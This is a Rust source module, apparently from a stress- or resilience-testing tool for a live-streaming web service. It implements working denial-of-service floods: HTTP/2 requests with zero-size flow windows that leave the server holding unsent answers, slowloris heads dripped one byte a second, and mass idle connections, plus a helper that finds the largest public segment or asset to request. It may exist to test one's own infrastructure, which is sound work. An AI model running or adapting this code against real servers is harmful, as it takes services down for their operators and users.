//! Floods of the HTTP surface from one address, without a token.

use std::io::{self, Read as _, Write as _};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use super::h2::Connection;
use super::tcp::connect_from;
use super::{Attack, Course, Target};
use crate::error::{Error, Result};
use crate::hls::{media_playlist, renditions};
use crate::http::Http;

/// Streams of one HTTP/2 connection, however many more the server allows.
const STREAMS_MAX: u32 = 1000;
/// How often each connection is attended to.
const TURN: Duration = Duration::from_millis(20);
/// How often a slow head gets one byte more.
const DRIP: Duration = Duration::from_secs(1);
/// Connections made between two looks at those that are there.
const CONNECTS_A_TURN: usize = 50;
/// The beginning of a head that never ends.
const SLOW_HEAD: &[u8] = b"GET /readyz HTTP/1.1\r\nHost: flood\r\nX-Slow: ";

/// Asks for `path` on every stream of so many HTTP/2 connections, with windows of no bytes: the server has answers that
/// it cannot send.
pub fn unread_answers(target: &Target, path: &str, connections: usize) -> Attack {
    let (target, path) = (target.clone(), path.to_owned());
    let authority = target.http.origin().trim_start_matches("http://").to_owned();
    let connect = move || Connection::new(connect(&target)?, &authority);
    Attack::start(1, move |course| {
        hold(course, connections, &connect, |connection| {
            let (asked, bytes) = connection.turn(&path, STREAMS_MAX)?;
            course.take(bytes);
            course.counts.tries.fetch_add(asked.into(), super::Relaxed);
            course.counts.bytes.fetch_add(bytes as u64, super::Relaxed);
            Ok(())
        });
    })
}

/// Holds so many HTTP/1.1 connections, each with a request whose head never ends.
pub fn slow_heads(target: &Target, connections: usize) -> Attack {
    let target = target.clone();
    let connect = move || {
        let mut stream = connect(&target)?;
        stream.write_all(SLOW_HEAD)?;
        stream.set_nonblocking(true)?;
        Ok((stream, Instant::now()))
    };
    Attack::start(1, move |course| {
        hold(course, connections, &connect, |(stream, dripped)| {
            is_open(stream)?;
            if dripped.elapsed() >= DRIP {
                *dripped = Instant::now();
                let _ = stream.write(b"x")?;
            }
            Ok(())
        });
    })
}

/// Holds so many connections, and says nothing.
pub fn held_connections(target: &Target, connections: usize) -> Attack {
    let target = target.clone();
    let connect = move || {
        let stream = connect(&target)?;
        stream.set_nonblocking(true)?;
        Ok(stream)
    };
    Attack::start(1, move |course| hold(course, connections, &connect, is_open))
}

fn connect(target: &Target) -> io::Result<TcpStream> {
    let to = target.address().ok_or(io::ErrorKind::InvalidInput)?;
    connect_from(target.source_towards(to), to)
}

/// Whether the server still holds a connection of which nothing is expected.
fn is_open(stream: &mut TcpStream) -> io::Result<()> {
    match stream.read(&mut [0; 512]) {
        Ok(0) => Err(io::ErrorKind::UnexpectedEof.into()),
        Err(error) if error.kind() != io::ErrorKind::WouldBlock => Err(error),
        _ => Ok(()),
    }
}

/// Keeps `count` connections open until the flood is over: those that the server ends are replaced.
fn hold<T>(
    course: &Course,
    count: usize,
    connect: &impl Fn() -> io::Result<T>,
    mut attend: impl FnMut(&mut T) -> io::Result<()>,
) {
    let mut open: Vec<T> = vec![];
    while !course.is_over() {
        for _ in open.len()..count.min(open.len() + CONNECTS_A_TURN) {
            course.counts.tried();
            match connect() {
                Ok(connection) => open.push(connection),
                Err(_) => course.refuse(),
            }
        }
        let before = open.len();
        open.retain_mut(|connection| attend(connection).is_ok());
        course.counts.refused.fetch_add((before - open.len()) as u64, super::Relaxed);
        std::thread::sleep(TURN);
    }
}

/// The path of something large that anybody may get: a segment of the room's broadcast, the oldest that its playlist
/// names, or else the largest asset of the pages.
pub fn large_object(http: &Http, room: &str) -> Result<String> {
    let segment = renditions(http, &format!("/live/{room}/index.m3u8")).ok().and_then(|all| {
        let largest = all.into_iter().max_by_key(|rendition| rendition.height)?;
        media_playlist(http, &largest.path).ok()?.segments.into_iter().find(|segment| !segment.gap)
    });
    if let Some(segment) = segment {
        return Ok(segment.path);
    }
    let page = http.text("/")?;
    let assets = page.split('"').filter(|text| text.starts_with("/assets/"));
    let sized = assets.filter_map(|path| Some((http.get(path).ok()?.body.len(), path.to_owned())));
    let largest = sized.max();
    largest.map(|(_, path)| path).ok_or(Error::Malformed { what: "index page", detail: "it names no asset".into() })
}
